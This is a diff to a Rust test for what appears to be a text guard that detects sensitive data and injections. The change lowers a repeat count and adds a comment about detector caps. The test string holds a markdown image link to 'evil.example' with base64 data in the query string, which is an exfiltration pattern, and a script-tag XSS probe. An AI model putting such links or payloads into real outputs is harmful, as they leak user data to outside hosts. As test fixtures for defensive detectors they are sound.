@@ -355,7 +355,10 @@ mod tests {
         let text = "Contact ana@example.es or bo@example.org. Key AKIAIOSFODNN7EXAMPLE here. \
                     ![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) and \
                     <script>alert(1)</script> — café ✓ "
-            .repeat(20);
+            // Few enough repetitions to stay under the detectors' per-text caps on
+            // findings (e.g. the injection heuristics' MAX_HITS): past a cap, whole-text
+            // inspection legitimately reports fewer findings than chunked inspection.
+            .repeat(12);
         let whole = guard
             .inspect(&text, Context::output(), &mut Session::new())
             .unwrap();
